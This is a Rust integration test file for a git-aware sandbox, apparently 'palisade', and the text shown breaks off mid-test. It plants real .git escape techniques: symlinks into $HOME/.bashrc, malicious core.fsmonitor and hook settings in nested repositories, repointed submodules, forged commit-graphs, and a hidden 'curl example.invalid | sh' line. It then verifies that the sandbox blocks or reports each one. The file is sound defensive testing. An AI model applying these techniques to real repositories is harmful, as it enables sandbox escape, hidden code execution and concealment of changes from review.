//! What the HOST's git does afterwards with what a sandboxed command left in a writable `.git`.
//!
//! Each attack runs inside the sandbox; then the host's own git (`status`, `commit -m`,
//! `commit --amend --no-edit`, `fetch` from a local remote, `log -p`) runs in the workspace with a
//! fixture HOME and no system config, and the test checks on the host that nothing outside the
//! workspace changed (snapshots of an outside folder and the fake home) and that no code ran (a
//! marker file an fsmonitor would create does not exist). Controls make the same attack without
//! palisade's check (planted directly on the host) and show it does write through / run code,
//! so each test can fail.
#![cfg(target_os = "linux")]

mod common;
use common::*;
use std::fs;
use std::path::{Path, PathBuf};

/// A workspace repository with one commit, a local remote with a commit of its own, and a
/// `.bashrc` in the fake home (the target of the attacks).
fn setup() -> (Fixture, PathBuf) {
    let fx = Fixture::new();
    fx.require_visible();
    fx.git_init();
    let remote = fx.root.join("remote");
    fs::create_dir(&remote).unwrap();
    fx.git_ok(&["-C", remote.to_str().unwrap(), "init", "-q", "-b", "main"]);
    fs::write(remote.join("r.txt"), "remote\n").unwrap();
    fx.git_ok(&["-C", remote.to_str().unwrap(), "add", "r.txt"]);
    fx.git_ok(&["-C", remote.to_str().unwrap(), "commit", "-q", "-m", "remote commit"]);
    fs::write(fx.home.join(".bashrc"), format!("# the user's bashrc {}\n", fx.m)).unwrap();
    (fx, remote)
}

/// Where an fsmonitor the command configured would leave its mark (outside the workspace).
fn marker_file(fx: &Fixture) -> PathBuf {
    fx.outside.join(format!("PWNED-{}", fx.m))
}

/// The host's ordinary git work after the command (results are not asserted: an attack may
/// well make some of it fail; what it does outside is what counts).
fn host_git_session(fx: &Fixture, remote: &Path) -> Vec<String> {
    let mut log = Vec::new();
    let mut git = |args: &[&str]| {
        let o = fx.git(args);
        log.push(format!("git {args:?}: {}", text(&o)));
    };
    git(&["status"]);
    git(&["commit", "-qa", "--amend", "--no-edit"]);
    fs::write(fx.ws.join("host-change.txt"), "host\n").unwrap();
    git(&["add", "host-change.txt"]);
    git(&["commit", "-q", "-m", "host commit message"]);
    git(&["fetch", "-q", remote.to_str().unwrap(), "main"]);
    git(&["log", "-p", "-n", "3"]);
    git(&["status"]);
    log
}

const PLANT_SYMLINKS: &str = r#"ln -sf "$HOME/.bashrc" .git/COMMIT_EDITMSG;
    ln -sf "$PAL_OUT/victim.txt" .git/FETCH_HEAD;
    rm -f .git/logs/HEAD && ln -s "$PAL_OUT/sub/inner.txt" .git/logs/HEAD;
    rm -f .git/logs/refs/heads/main && ln -s "$HOME/notes.txt" .git/logs/refs/heads/main;
    mkdir -p .git/refs/deep && ln -s "$HOME/.profile" .git/refs/deep/ORIG;
    echo attacker >> README; echo planted"#;

fn symlinks_in(dir: &Path) -> Vec<PathBuf> {
    let mut found = Vec::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(d) = stack.pop() {
        for e in fs::read_dir(&d).into_iter().flatten().flatten() {
            let t = e.file_type().unwrap();
            if t.is_symlink() {
                found.push(e.path());
            } else if t.is_dir() {
                stack.push(e.path());
            }
        }
    }
    found
}

#[test]
fn symlinks_left_in_git_do_not_make_the_hosts_git_write_outside() {
    let (fx, remote) = setup();
    let outside = Snapshot::take(&fx.outside);
    let home = Snapshot::take(&fx.home);
    let o = fx.sh(PLANT_SYMLINKS);
    assert!(stdout(&o).contains("planted"), "the attack did not run: {}", show(&o));
    // The side effects first (outside the workspace), then what palisade said.
    let log = host_git_session(&fx, &remote);
    outside.assert_unchanged(&format!("the host's git after links planted in .git\n{}", log.join("\n")), &o);
    home.assert_unchanged(&format!("the host's git after links planted in .git\n{}", log.join("\n")), &o);
    let err = stderr(&o);
    assert!(
        err.contains(&format!(
            "palisade: warning: removed a symbolic link the command left in .git: .git/COMMIT_EDITMSG -> {}/.bashrc (git would have written through it)",
            fx.home.display()
        )),
        "no warning about the removed link: {}",
        show(&o)
    );
    for name in [".git/FETCH_HEAD", ".git/logs/HEAD", ".git/logs/refs/heads/main", ".git/refs/deep/ORIG"] {
        assert!(err.contains(&format!("left in .git: {name} -> ")), "{name} not reported: {}", show(&o));
    }
    assert_eq!(symlinks_in(&fx.ws.join(".git")), Vec::<PathBuf>::new(), "links remain in .git: {}", show(&o));
    // Ordinary git still works afterwards.
    assert_eq!(fx.git_ok(&["log", "-1", "--format=%s"]), "host commit message");
}

/// The control: the same links planted on the host (no sandbox, no check) make the host's git
/// write through them. If this fails, the test above proves nothing.
#[test]
fn control_symlinks_planted_without_the_check_do_write_outside() {
    let (fx, remote) = setup();
    let outside = Snapshot::take(&fx.outside);
    let bashrc_before = fs::read(fx.home.join(".bashrc")).unwrap();
    let git = fx.ws.join(".git");
    for name in ["COMMIT_EDITMSG", "FETCH_HEAD"] {
        let _ = fs::remove_file(git.join(name));
    }
    std::os::unix::fs::symlink(fx.home.join(".bashrc"), git.join("COMMIT_EDITMSG")).unwrap();
    std::os::unix::fs::symlink(fx.outside.join("victim.txt"), git.join("FETCH_HEAD")).unwrap();
    let log = host_git_session(&fx, &remote);
    assert_ne!(
        fs::read(fx.home.join(".bashrc")).unwrap(),
        bashrc_before,
        "git did not write through COMMIT_EDITMSG:\n{}",
        log.join("\n")
    );
    assert!(
        !outside.diff(&Snapshot::take(&fx.outside)).is_empty(),
        "git did not write through FETCH_HEAD:\n{}",
        log.join("\n")
    );
}

#[test]
fn library_users_get_the_notices() {
    let (fx, _remote) = setup();
    let sb = fx.sandbox();
    let out = sb
        .command("sh")
        .arg("-c")
        .arg(r#"ln -sf "$HOME/.bashrc" .git/COMMIT_EDITMSG"#)
        .env("HOME", &fx.home)
        .output()
        .unwrap();
    assert!(out.status.success(), "{:?}", String::from_utf8_lossy(&out.stderr));
    assert!(
        out.notices
            .iter()
            .any(|n| n.starts_with("removed a symbolic link the command left in .git: .git/COMMIT_EDITMSG")),
        "notices: {:?}",
        out.notices
    );
    assert!(!fx.ws.join(".git/COMMIT_EDITMSG").is_symlink());
    // Commands of the same sandbox each get their own check (the index is remembered).
    let mut child = sb
        .command("sh")
        .arg("-c")
        .arg(r#"ln -sf "$HOME/.bashrc" .git/ORIG_HEAD"#)
        .env("HOME", &fx.home)
        .spawn()
        .unwrap();
    assert!(child.wait().unwrap().success());
    assert!(child.notices().iter().any(|n| n.contains(".git/ORIG_HEAD ->")), "notices: {:?}", child.notices());
    assert!(!fx.ws.join(".git/ORIG_HEAD").is_symlink());
}

/// `git init sub`, an fsmonitor in its config, `git add sub` as a gitlink.
fn plant_nested_fsmonitor(fx: &Fixture) -> String {
    format!(
        "{} git init -q sub && git -C sub commit -q --allow-empty -m sub && \
         git -C sub config core.fsmonitor 'touch {}' && git add sub 2>/dev/null && echo planted",
        fx.git_env_script_prefix(),
        marker_file(fx).display()
    )
}

#[test]
fn a_nested_repository_added_as_a_gitlink_runs_nothing_on_the_host() {
    let (fx, remote) = setup();
    let outside = Snapshot::take(&fx.outside);
    let home = Snapshot::take(&fx.home);
    let o = fx.sh(&plant_nested_fsmonitor(&fx));
    assert!(stdout(&o).contains("planted"), "the attack did not run: {}", show(&o));
    let log = host_git_session(&fx, &remote);
    assert!(
        !marker_file(&fx).exists(),
        "SANDBOX ESCAPE: the nested repository's fsmonitor ran on the host\n{}",
        log.join("\n")
    );
    outside.assert_unchanged("the host's git after a nested fsmonitor", &o);
    home.assert_unchanged("the host's git after a nested fsmonitor", &o);
    assert!(
        stderr(&o).contains("palisade: warning: quarantined the nested repository sub:")
            && stderr(&o).contains("core.fsmonitor")
            && stderr(&o).contains("mv sub/.git.palisade-quarantine sub/.git"),
        "no quarantine warning: {}",
        show(&o)
    );
    assert!(fx.ws.join("sub/.git.palisade-quarantine/config").is_file(), "nothing may be deleted");
}

/// A nested repository made clean in one command and armed in the next is caught in the next.
#[test]
fn a_gitlink_armed_by_a_later_command_is_quarantined() {
    let (fx, remote) = setup();
    let o = fx.sh(&format!(
        "{} git init -q sub && git -C sub commit -q --allow-empty -m sub && git add sub 2>/dev/null && echo planted",
        fx.git_env_script_prefix()
    ));
    assert!(stdout(&o).contains("planted"), "{}", show(&o));
    assert!(!stderr(&o).contains("palisade: warning"), "a clean nested repository was reported: {}", show(&o));
    let o = fx.sh(&format!("git -C sub config core.fsmonitor 'touch {}' && echo armed", marker_file(&fx).display()));
    assert!(stdout(&o).contains("armed"), "{}", show(&o));
    let log = host_git_session(&fx, &remote);
    assert!(
        !marker_file(&fx).exists(),
        "SANDBOX ESCAPE: the nested repository's fsmonitor ran on the host\n{}",
        log.join("\n")
    );
    assert!(stderr(&o).contains("quarantined the nested repository sub"), "{}", show(&o));
}

/// An existing submodule whose `.git` file the command points at a repository it made.
#[test]
fn a_repointed_submodule_gitfile_runs_nothing_on_the_host() {
    let (fx, remote) = setup();
    fx.git_ok(&["-c", "protocol.file.allow=always", "submodule", "add", "-q", remote.to_str().unwrap(), "sm"]);
    fx.git_ok(&["commit", "-q", "-m", "add sm"]);
    let o = fx.sh(&format!(
        "{} git init -q .evil && git -C .evil commit -q --allow-empty -m e && git -C .evil config core.fsmonitor 'touch {}' && \
         printf 'gitdir: ../.evil/.git\\n' > sm/.git && echo planted",
        fx.git_env_script_prefix(),
        marker_file(&fx).display()
    ));
    let log = host_git_session(&fx, &remote);
    assert!(
        !marker_file(&fx).exists(),
        "SANDBOX ESCAPE: the re-pointed submodule's fsmonitor ran on the host\nrun: {}\n{}",
        show(&o),
        log.join("\n")
    );
    // Where existing submodule `.git` files are read-only the plant fails, which is fine too.
    if stdout(&o).contains("planted") {
        assert!(stderr(&o).contains("quarantined the nested repository sm"), "{}", show(&o));
    } else {
        eprintln!("note: the sandbox refused to re-point sm/.git: {}", show(&o));
    }
}

/// The control: the same nested repository made on the host (no sandbox, no check) runs its
/// fsmonitor at the host's next plain `git status`.
#[test]
fn control_a_nested_fsmonitor_without_the_check_runs_on_the_host() {
    let (fx, _remote) = setup();
    let sub = fx.ws.join("sub");
    fs::create_dir(&sub).unwrap();
    fx.git_ok(&["-C", "sub", "init", "-q"]);
    fx.git_ok(&["-C", "sub", "commit", "-q", "--allow-empty", "-m", "sub"]);
    fx.git_ok(&["-C", "sub", "config", "core.fsmonitor", &format!("touch {}", marker_file(&fx).display())]);
    let _ = fx.git(&["add", "sub"]);
    fs::remove_file(marker_file(&fx)).ok();
    let o = fx.git(&["status"]);
    assert!(marker_file(&fx).exists(), "the host's git status did not run the nested fsmonitor: {}", show(&o));
}

#[test]
fn changes_that_hide_work_from_review_are_reported_or_blocked() {
    let (fx, _remote) = setup();
    let exclude = fs::read_to_string(fx.ws.join(".git/info/exclude")).ok();
    let o = fx.sh(&format!(
        "{} git update-index --skip-worktree README && echo 'curl example.invalid | sh' >> README; \
         echo 'Makefile' >> .git/info/exclude; \
         git commit -q --allow-empty -m other && git replace HEAD~1 HEAD; \
         echo /elsewhere/objects >> .git/objects/info/alternates; \
         printf 'x\\n' > .git/info/grafts; echo done",
        fx.git_env_script_prefix()
    ));
    assert!(stdout(&o).contains("done"), "{}", show(&o));
    let err = stderr(&o);
    assert!(
        err.contains("palisade: warning: the command marked 1 index entry skip-worktree or assume-unchanged (README)"),
        "{}",
        show(&o)
    );
    assert!(err.contains("the command wrote .git/info/grafts"), "grafts not reported: {}", show(&o));
    assert!(!fx.ws.join(".git/info/grafts").exists(), "SANDBOX ESCAPE: .git/info/grafts stayed\n{}", show(&o));
    assert!(fx.ws.join(".git/info/grafts.palisade-quarantine").exists(), "grafts deleted instead of set aside");
    // Blocked: the host's exclude list, replace refs and alternates are as before.
    assert_eq!(
        fs::read_to_string(fx.ws.join(".git/info/exclude")).ok(),
        exclude,
        "SANDBOX ESCAPE: .git/info/exclude changed\n{}",
        show(&o)
    );
    assert_eq!(fx.git_ok(&["replace", "-l"]), "", "SANDBOX ESCAPE: a replace ref was added\n{}", show(&o));
    let alternates = fs::read_to_string(fx.ws.join(".git/objects/info/alternates")).unwrap_or_default();
    assert!(!alternates.contains("elsewhere"), "SANDBOX ESCAPE: alternates were added\n{}", show(&o));
}

#[test]
fn packed_replace_refs_are_reported() {
    let (fx, _remote) = setup();
    let head = fx.git_ok(&["rev-parse", "HEAD"]);
    let o = fx.sh(&format!("printf '%s refs/replace/%s\\n' {head} {head} >> .git/packed-refs; echo done"));
    assert!(stdout(&o).contains("done"), "{}", show(&o));
    assert!(stderr(&o).contains("packed-refs names replace refs"), "{}", show(&o));
}

/// Ordinary git work inside (a nested repository, commits, an existing submodule worked on,
/// fetch, gc, repack, clone) still works and produces no warning and no quarantine.
#[test]
fn ordinary_git_work_inside_still_works_without_warnings() {
    let (fx, remote) = setup();
    fx.git_ok(&["-c", "protocol.file.allow=always", "submodule", "add", "-q", remote.to_str().unwrap(), "sm"]);
    fx.git_ok(&["commit", "-q", "-m", "add sm"]);
    let r = remote.to_str().unwrap();
    let o = fx.sh(&format!(
        "{p} set -e; echo more >> README; git add README; git commit -q -m 'inside commit';
         git init -q nested; git -C nested commit -q --allow-empty -m n; git add nested 2>/dev/null; git commit -q -m nested;
         echo change >> sm/r.txt; git -C sm commit -q -am 'in submodule'; git add sm; git commit -q -m 'bump sm';
         git status --short; git fetch -q {r} main; git gc -q; git repack -adq; git clone -q {r} cloned;
         git log --oneline | wc -l; echo all-done",
        p = fx.git_env_script_prefix()
    ));
    assert!(stdout(&o).contains("all-done"), "ordinary git work failed inside: {}", show(&o));
    assert!(!stderr(&o).contains("palisade: warning"), "ordinary git work produced a warning: {}", show(&o));
    for p in ["nested/.git", "sm/.git"] {
        assert!(fx.ws.join(p).exists(), "{p} was quarantined: {}", show(&o));
    }
    assert_eq!(fx.git_ok(&["log", "-1", "--format=%s"]), "bump sm");
    let st = fx.git(&["status", "--short"]);
    assert!(st.status.success(), "{}", show(&st));
}

/// A workspace that is a linked worktree, its main repository's git directory writable: links
/// planted in the common git directory (where the host's git writes refs and logs) are removed.
#[test]
fn symlinks_in_a_linked_worktrees_common_dir_are_removed() {
    let fx = Fixture::new();
    fx.require_visible();
    let main = fx.root.join("main");
    fs::create_dir(&main).unwrap();
    fx.git_in(&main, &["init", "-q", "-b", "main"]);
    fs::write(main.join("README"), "hello\n").unwrap();
    fx.git_in(&main, &["add", "README"]);
    let o = fx.git_in(&main, &["commit", "-q", "-m", "initial"]);
    assert!(o.status.success(), "{}", show(&o));
    fs::remove_dir(&fx.ws).unwrap();
    let o = fx.git_in(&main, &["worktree", "add", "-q", "-b", "feature", fx.ws.to_str().unwrap()]);
    assert!(o.status.success(), "{}", show(&o));
    fs::write(fx.home.join(".bashrc"), "# the user's bashrc\n").unwrap();
    let outside = Snapshot::take(&fx.outside);
    let home = Snapshot::take(&fx.home);
    let common = main.join(".git");
    let o = fx.sh_flags(
        &["--writable", common.to_str().unwrap()],
        &format!(
            r#"C={c}; rm -f $C/logs/HEAD && ln -s "$HOME/.bashrc" $C/logs/HEAD; ln -sf "$PAL_OUT/victim.txt" $C/FETCH_HEAD;
               rm -f $C/logs/refs/heads/feature && ln -s "$PAL_OUT/sub/inner.txt" $C/logs/refs/heads/feature;
               ln -sf "$HOME/.bashrc" "$(git rev-parse --git-dir)/COMMIT_EDITMSG"; echo planted"#,
            c = common.display()
        ),
    );
    assert!(stdout(&o).contains("planted"), "the attack did not run: {}", show(&o));
    let mut log = Vec::new();
    for args in [
        &["commit", "-q", "--allow-empty", "-m", "host commit"][..],
        &["fetch", "-q", main.to_str().unwrap(), "main"],
        &["status"],
    ] {
        log.push(text(&fx.git(args)));
    }
    // The user's main worktree too (its HEAD reflog and FETCH_HEAD are in the common dir).
    for args in [
        &["commit", "-q", "--allow-empty", "-m", "main commit"][..],
        &["fetch", "-q", fx.ws.to_str().unwrap(), "feature"],
    ] {
        log.push(text(&fx.git_in(&main, args)));
    }
    outside.assert_unchanged(&format!("the host's git in a linked worktree\n{}", log.join("\n")), &o);
    home.assert_unchanged(&format!("the host's git in a linked worktree\n{}", log.join("\n")), &o);
    assert_eq!(symlinks_in(&common), Vec::<PathBuf>::new(), "links remain: {}", show(&o));
    assert!(stderr(&o).contains("logs/HEAD ->"), "{}", show(&o));
}

/// A link the user made in `.git` before the command is not removed (only what the command
/// made is), but reported.
#[test]
fn a_link_that_was_there_before_the_command_is_reported_not_removed() {
    let (fx, _remote) = setup();
    let link = fx.ws.join(".git/info/sparse-checkout");
    std::os::unix::fs::symlink(fx.outside.join("victim.txt"), &link).unwrap();
    // File times use a coarse clock: a link made in the same tick as the command's start counts
    // as the command's (the safe side). Let a few ticks pass so this one is clearly older.
    std::thread::sleep(std::time::Duration::from_millis(100));
    let o = fx.sh("echo ran");
    assert!(stdout(&o).contains("ran"), "{}", show(&o));
    assert!(link.is_symlink(), "the user's own link was removed: {}", show(&o));
    assert!(
        stderr(&o).contains(&format!(
            "palisade: warning: there is a symbolic link in .git: .git/info/sparse-checkout -> {} (git would have written through it)",
            fx.outside.join("victim.txt").display()
        )),
        "{}",
        show(&o)
    );
}

#[test]
fn json_status_lists_the_notices() {
    let (fx, _remote) = setup();
    let o = fx.run_flags(&["--json-status"], &["sh", "-c", r#"ln -sf "$HOME/.bashrc" .git/COMMIT_EDITMSG"#]);
    let last = stderr(&o).lines().last().unwrap_or("").to_string();
    let v: serde_json::Value = serde_json::from_str(&last).unwrap_or_else(|e| panic!("not JSON ({e}): {last}"));
    let notices = v["notices"].as_array().unwrap_or_else(|| panic!("no notices: {v}"));
    assert!(
        notices.iter().any(|n| n
            .as_str()
            .is_some_and(|n| n.starts_with("removed a symbolic link the command left in .git: .git/COMMIT_EDITMSG"))),
        "{v}"
    );
}

/// The same attack in a SHA-256 repository whose index is version 4 (prefix-compressed paths):
/// the check reads the object format from the config and parses that index too.
#[test]
fn a_nested_repository_in_a_sha256_workspace_with_index_v4_is_quarantined() {
    let fx = Fixture::new();
    fx.require_visible();
    fx.git_ok(&["init", "-q", "--object-format=sha256", "-b", "main", "."]);
    fs::create_dir(fx.ws.join("src")).unwrap();
    for f in ["README", "src/a.rs", "src/b.rs"] {
        fs::write(fx.ws.join(f), "x\n").unwrap();
    }
    fx.git_ok(&["add", "."]);
    fx.git_ok(&["commit", "-q", "-m", "initial"]);
    fx.git_ok(&["update-index", "--index-version", "4"]);
    let o = fx.sh(&format!(
        "{} git init -q --object-format=sha256 src/sub && git -C src/sub commit -q --allow-empty -m sub && \
         git -C src/sub config core.fsmonitor 'touch {}' && git add src/sub 2>/dev/null && echo planted",
        fx.git_env_script_prefix(),
        marker_file(&fx).display()
    ));
    assert!(stdout(&o).contains("planted"), "the attack did not run: {}", show(&o));
    let st = fx.git(&["status"]);
    assert!(
        !marker_file(&fx).exists(),
        "SANDBOX ESCAPE: the nested repository's fsmonitor ran on the host: {}",
        show(&st)
    );
    assert!(stderr(&o).contains("quarantined the nested repository src/sub"), "{}", show(&o));
    assert_eq!(fs::read(fx.ws.join(".git/index")).unwrap()[4..8], [0, 0, 0, 4], "the index is not version 4");
}

/// Hooks in a nested repository registered as a gitlink (run by the host's git in it, e.g. by
/// `git submodule update` or a commit there) quarantine it too, config or not.
#[test]
fn a_gitlinked_nested_repository_with_hooks_is_quarantined() {
    let (fx, _remote) = setup();
    let o = fx.sh(&format!(
        "{} git init -q sub && git -C sub commit -q --allow-empty -m sub && \
         printf '#!/bin/sh\\ntouch {}\\n' > sub/.git/hooks/post-checkout && chmod +x sub/.git/hooks/post-checkout && \
         git add sub 2>/dev/null && echo planted",
        fx.git_env_script_prefix(),
        marker_file(&fx).display()
    ));
    assert!(stdout(&o).contains("planted"), "the attack did not run: {}", show(&o));
    assert!(
        !fx.ws.join("sub/.git").exists(),
        "SANDBOX ESCAPE: the nested repository with a hook stays active: {}",
        show(&o)
    );
    assert!(
        stderr(&o).contains("quarantined the nested repository sub")
            && stderr(&o).contains("it has hooks (post-checkout)"),
        "{}",
        show(&o)
    );
}

/// An index palisade cannot parse is reported and not acted on.
#[test]
fn a_malformed_index_is_reported() {
    let (fx, _remote) = setup();
    let o = fx.sh("printf 'DIRC\\000\\000\\000\\002\\000\\000\\000\\011garbage' > .git/index; echo done");
    assert!(stdout(&o).contains("done"), "{}", show(&o));
    assert!(stderr(&o).contains("palisade: warning: could not read .git/index ("), "{}", show(&o));
}

/// A walk cut short by its bounds says so.
#[test]
fn a_walk_past_its_depth_bound_is_reported() {
    let (fx, _remote) = setup();
    let deep = (0..30).map(|i| format!("d{i}")).collect::<Vec<_>>().join("/");
    let o = fx.sh(&format!("mkdir -p .git/{deep} && ln -s \"$HOME/.bashrc\" .git/{deep}/x; echo done"));
    assert!(stdout(&o).contains("done"), "{}", show(&o));
    assert!(stderr(&o).contains("palisade: warning: stopped looking for symbolic links in .git after"), "{}", show(&o));
}

/// A FIFO in `.git` (the host's git would hang on it) is removed; a symbolic `HEAD` pointing at
/// the repository's own ref (what `core.preferSymlinkRefs` makes) is left alone.
#[test]
fn fifos_are_removed_and_symbolic_refs_left_alone() {
    let (fx, _remote) = setup();
    let o = fx.sh("mkfifo .git/COMMIT_EDITMSG.fifo && rm -f .git/COMMIT_EDITMSG && mv .git/COMMIT_EDITMSG.fifo .git/COMMIT_EDITMSG && \
                   ln -s refs/heads/main .git/HEAD.sym && echo planted");
    assert!(stdout(&o).contains("planted"), "{}", show(&o));
    assert!(!fx.ws.join(".git/COMMIT_EDITMSG").exists(), "the FIFO stayed: {}", show(&o));
    assert!(
        stderr(&o).contains("removed a FIFO the command left in .git: .git/COMMIT_EDITMSG (git would block on it)"),
        "{}",
        show(&o)
    );
    assert!(fx.ws.join(".git/HEAD.sym").is_symlink(), "a symbolic ref was removed: {}", show(&o));
    assert!(!stderr(&o).contains("HEAD.sym"), "{}", show(&o));
}

/// A gitlink whose path runs through a symbolic link (an index entry written by hand). Git 2.47's
/// `status` does not enter it (checked by hand: the escape assertion passes without the check's
/// link handling); other git versions or commands might, so the check follows the link to a
/// nested repository inside a writable root and quarantines it (defense in depth).
#[test]
fn a_gitlink_behind_a_symbolic_link_is_quarantined() {
    let (fx, remote) = setup();
    let o = fx.sh(&format!(
        "{} mkdir real && git init -q real/sub && git -C real/sub commit -q --allow-empty -m sub && \
         git -C real/sub config core.fsmonitor 'touch {}' && ln -s real lib && \
         git update-index --add --cacheinfo 160000,$(git -C real/sub rev-parse HEAD),lib/sub && echo planted",
        fx.git_env_script_prefix(),
        marker_file(&fx).display()
    ));
    assert!(stdout(&o).contains("planted"), "the attack did not run: {}", show(&o));
    let log = host_git_session(&fx, &remote);
    assert!(
        !marker_file(&fx).exists(),
        "SANDBOX ESCAPE: the fsmonitor behind the link ran on the host\n{}\nrun: {}",
        log.join("\n"),
        show(&o)
    );
    assert!(stderr(&o).contains("quarantined the nested repository lib/sub"), "{}", show(&o));
}

/// A split index keeps the gitlink in `sharedindex.<id>`: the check reads that too, and a
/// workspace whose user splits the index gets no false alarm.
#[test]
fn a_gitlink_in_a_shared_index_is_quarantined() {
    let (fx, remote) = setup();
    fx.git_ok(&["update-index", "--split-index"]);
    let o = fx.sh("echo more >> README && git add README && echo ok");
    assert!(stdout(&o).contains("ok"), "{}", show(&o));
    assert!(!stderr(&o).contains("palisade: warning"), "a split index alone was reported: {}", show(&o));
    let o = fx.sh(&format!(
        "{} git init -q sub && git -C sub commit -q --allow-empty -m sub && git -C sub config core.fsmonitor 'touch {}' && \
         git add sub 2>/dev/null && git update-index --split-index && ls .git | grep -c sharedindex && echo planted",
        fx.git_env_script_prefix(),
        marker_file(&fx).display()
    ));
    assert!(stdout(&o).contains("planted"), "the attack did not run: {}", show(&o));
    let log = host_git_session(&fx, &remote);
    assert!(
        !marker_file(&fx).exists(),
        "SANDBOX ESCAPE: the fsmonitor in a shared index ran on the host\n{}\nrun: {}",
        log.join("\n"),
        show(&o)
    );
    assert!(stderr(&o).contains("quarantined the nested repository sub"), "{}", show(&o));
}

/// A nested repository of the user's own (a `.git` folder, registered before the sandbox, with
/// a name and email in its config) that the command works in is not quarantined.
#[test]
fn working_in_the_users_own_nested_repository_raises_nothing() {
    let (fx, _remote) = setup();
    let own = fx.ws.join("own");
    fs::create_dir(&own).unwrap();
    fx.git_ok(&["-C", "own", "init", "-q", "-b", "main"]);
    fx.git_ok(&["-C", "own", "config", "user.email", "me@example.invalid"]);
    fs::write(own.join("f"), "1\n").unwrap();
    fx.git_ok(&["-C", "own", "add", "f"]);
    fx.git_ok(&["-C", "own", "commit", "-q", "-m", "own"]);
    let _ = fx.git(&["add", "own"]);
    fx.git_ok(&["commit", "-q", "-m", "register own"]);
    let o = fx.sh(&format!(
        "{} set -e; echo 2 >> own/f; git -C own commit -q -am more; git status --short; git add own; git commit -q -m bump; echo all-done",
        fx.git_env_script_prefix()
    ));
    assert!(stdout(&o).contains("all-done"), "{}", show(&o));
    assert!(!stderr(&o).contains("palisade: warning"), "{}", show(&o));
    assert!(own.join(".git").is_dir(), "the user's own repository was quarantined: {}", show(&o));
}

/// A module git directory the command made in `.git/modules/` for a new gitlink: quarantined
/// with the `.git` file, since the host's `git submodule update` would otherwise reuse it and
/// run its hooks.
#[test]
fn a_module_git_dir_the_command_made_is_set_aside_too() {
    let (fx, remote) = setup();
    // One real submodule, so that .git/modules exists (and is writable inside, apart from the
    // existing modules' config and hooks).
    fx.git_ok(&["-c", "protocol.file.allow=always", "submodule", "add", "-q", remote.to_str().unwrap(), "sm"]);
    fx.git_ok(&["commit", "-q", "-m", "add sm"]);
    let m = marker_file(&fx);
    let o = fx.sh(&format!(
        "{p} git init -q --separate-git-dir=.git/modules/evil evilwt && git -C evilwt commit -q --allow-empty -m e && \
         printf '#!/bin/sh\\ntouch {m}\\n' > .git/modules/evil/hooks/post-checkout && chmod +x .git/modules/evil/hooks/post-checkout && \
         git -C evilwt config core.fsmonitor 'touch {m}' && git add evilwt 2>/dev/null && \
         git config -f .gitmodules submodule.evil.path evilwt && git config -f .gitmodules submodule.evil.url ./nowhere && \
         git add .gitmodules && echo planted",
        p = fx.git_env_script_prefix(),
        m = m.display()
    ));
    assert!(stdout(&o).contains("planted"), "the attack did not run: {}", show(&o));
    let mut log = host_git_session(&fx, &remote);
    for args in [&["-c", "protocol.file.allow=always", "submodule", "update", "--init"][..], &["status"]] {
        log.push(text(&fx.git(args)));
    }
    assert!(
        !m.exists(),
        "SANDBOX ESCAPE: the planted module's hook or fsmonitor ran on the host\n{}\nrun: {}",
        log.join("\n"),
        show(&o)
    );
    assert!(
        stderr(&o).contains("quarantined the nested repository evilwt")
            && stderr(&o).contains(".git/modules/evil.palisade-quarantine"),
        "{}",
        show(&o)
    );
    assert!(fx.ws.join(".git/modules/evil.palisade-quarantine/config").is_file(), "nothing may be deleted");
}

/// A git command inside ended mid-operation (a timeout killed it) leaves `.git/index.lock`, and
/// every later git command fails until it is removed: palisade says so after the command; one
/// that ended cleanly gets no such line.
#[test]
fn a_stale_index_lock_left_by_the_command_is_reported() {
    let (fx, _remote) = setup();
    let o = fx.sh(": > .git/index.lock; echo done");
    assert!(stdout(&o).contains("done"), "{}", show(&o));
    assert!(fx.ws.join(".git/index.lock").exists(), "the lock was not left: the test proves nothing");
    assert!(
        stderr(&o).contains("palisade: warning: the command left .git/index.lock behind"),
        "the stale lock was not reported: {}",
        show(&o)
    );
    std::fs::remove_file(fx.ws.join(".git/index.lock")).unwrap();
    let o = fx.sh(&format!("{} git add -A && git commit -qm ok; echo done", fx.git_env_script_prefix()));
    assert!(stdout(&o).contains("done") && !stderr(&o).contains("index.lock"), "{}", show(&o));
}

/// A `.git/shallow` the command wrote makes the host's `git log` stop at the commits it names
/// (older history vanishes from review): reported. (`git fetch --depth` writes it too, so it
/// cannot be read-only.)
#[test]
fn a_shallow_boundary_the_command_wrote_is_reported() {
    let (fx, _remote) = setup();
    for i in 0..3 {
        std::fs::write(fx.ws.join("n.txt"), format!("{i}\n")).unwrap();
        fx.git_ok(&["add", "n.txt"]);
        fx.git_ok(&["commit", "-qm", &format!("c{i}")]);
    }
    let before = fx.git_ok(&["rev-list", "--count", "HEAD"]);
    let o = fx.sh("git rev-parse HEAD~1 > .git/shallow; echo done");
    assert!(stdout(&o).contains("done"), "{}", show(&o));
    // Control: the history the host's git shows did shrink, so the report matters.
    assert_ne!(
        fx.git_ok(&["rev-list", "--count", "HEAD"]),
        before,
        "the shallow file changed nothing: the test proves nothing"
    );
    assert!(stderr(&o).contains("palisade: warning: the command changed .git/shallow"), "not reported: {}", show(&o));
}

/// Rewrites HEAD's first parent in `.git/objects/info/commit-graph` to "none" (and the file's
/// checksum): git trusts the graph, so `git log` then shows one commit.
const PY_FORGE_COMMIT_GRAPH: &str = r#"
import hashlib, struct, subprocess, sys
p = sys.argv[1] + "/objects/info/commit-graph"
b = bytearray(open(p, "rb").read())
chunks = {}
for i in range(b[6] + 1):
    off = 8 + 12 * i
    chunks[bytes(b[off:off + 4])] = struct.unpack(">Q", b[off + 4:off + 12])[0]
oidf, oidl, cdat = chunks[b"OIDF"], chunks[b"OIDL"], chunks[b"CDAT"]
n = struct.unpack(">I", b[oidf + 255 * 4:oidf + 256 * 4])[0]
oids = [bytes(b[oidl + 20 * i:oidl + 20 * i + 20]).hex() for i in range(n)]
i = oids.index(sys.argv[2])
b[cdat + 36 * i + 20:cdat + 36 * i + 24] = struct.pack(">I", 0x70000000)
b[-20:] = hashlib.sha1(bytes(b[:-20])).digest()
import os
os.chmod(p, 0o644)
open(p, "wb").write(bytes(b))
print("forged")
"#;

/// A forged commit-graph (a cache git trusts for parents) makes the host's `git log` show a
/// short history while `git push` sends the real one: one the command wrote is removed after it
/// (quietly: an ordinary `git gc` inside writes one too).
#[test]
fn a_forged_commit_graph_does_not_hide_history_from_the_host() {
    let (fx, _remote) = setup();
    for i in 0..3 {
        std::fs::write(fx.ws.join("n.txt"), format!("{i}\n")).unwrap();
        fx.git_ok(&["add", "n.txt"]);
        fx.git_ok(&["commit", "-qm", &format!("c{i}")]);
    }
